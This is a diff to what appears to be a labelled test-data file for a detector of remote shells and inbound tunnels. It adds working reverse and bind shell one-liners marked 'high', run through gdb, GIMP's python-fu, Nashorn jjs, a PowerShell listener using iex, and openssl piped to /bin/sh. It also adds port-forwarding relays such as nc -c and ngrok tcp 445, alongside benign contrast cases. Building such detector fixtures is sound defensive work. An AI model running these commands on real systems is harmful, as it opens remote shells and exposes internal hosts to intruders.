@@ -46,6 +46,17 @@ SHELL_CHANNELS = [
      "cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go", "high"),
     ("printf 'import socket,os,pty\\ns=socket.socket()\\ns.connect((\"10.0.0.1\",4444))\\nos.dup2(s.fileno(),0)\\n"
      "pty.spawn(\"/bin/sh\")\\n' > /tmp/u.py; python3 /tmp/u.py", "high"),
+    # code given in any program's arguments, or fed to one: a debugger's, an image editor's, Nashorn's
+    ("gdb -nx -ex 'python import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
+     "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")' -ex quit", "high"),
+    ("gimp -idf --batch-interpreter=python-fu-eval -b 'import socket,os,pty;s=socket.socket();"
+     "s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"/bin/sh\")'", "high"),
+    ("echo 'var p=new java.lang.ProcessBuilder(\"/bin/bash\", \"-i\").redirectErrorStream(true).start();"
+     "var s=new java.net.Socket(\"10.0.0.1\",4444);' | jjs", "high"),
+    ("$l = New-Object System.Net.Sockets.TcpListener('0.0.0.0',4444); $l.Start(); $c = $l.AcceptTcpClient(); "
+     "$s = $c.GetStream(); while(($i = $s.Read($b,0,$b.Length)) -ne 0){ "
+     "$d = ([text.encoding]::ASCII).GetString($b,0,$i); $o = (iex $d 2>&1 | Out-String) }", "high"),
+    ("openssl s_server -quiet -key key.pem -cert cert.pem -port 4444 | /bin/sh", "high"),
     # tools: a terminal on another display, a netcat's own shell option, relays' exec addresses, named shells
     ("xterm -display 10.0.0.1:1", "high"),
     ("DISPLAY=10.0.0.1:0 urxvt -e bash", "high"),
@@ -70,6 +81,9 @@ SHELL_CHANNELS = [
     ("echo 'package main; func main(){ println(\"hi\") }' > hi.go && go run hi.go", None),
     ("websocat ws://localhost:8080/echo", None),
     ("rcat listen 55600", None),
+    ("gdb -ex 'python print(1+1)' -ex quit ./a.out", None),
+    ("curl --unix-socket /var/run/docker.sock http://localhost/containers/json", None),
+    ("openssl s_server -key key.pem -cert cert.pem -www -port 8443", None),
 ]
 
 TOKEN_RUNS = [
@@ -125,6 +139,8 @@ WAYS_IN = [
     ("ncat -l 2222 --sh-exec \"ncat 10.1.1.5 22\"", "high"),
     ("socat TCP4-LISTEN:4450,fork,reuseaddr TCP4:10.1.1.5:445", "high"),
     ("netsh interface portproxy add v4tov4 listenport=5986 connectport=5985 connectaddress=10.1.1.5", "high"),
+    ("nc -lvp 2222 -c \"nc 10.1.1.5 22\"", "high"),
+    ("ngrok tcp 445", "high"),
     # everyday: ways out for the user, local apps, relays to loopback or web ports, VPN-like tools
     ("ssh -L 5432:localhost:5432 db", None),
     ("ssh -R 8080:localhost:3000 devbox", None),
@@ -139,6 +155,8 @@ WAYS_IN = [
     ("gost -L :8080", None),
     ("iox fwd -l 8888 -r 127.0.0.1:3000", None),
     ("nc -zv host 22", None),
+    ("nc -lvp 8080 -c \"cat index.html\"", None),
+    ("ngrok tcp 5432", None),
 ]
 
 
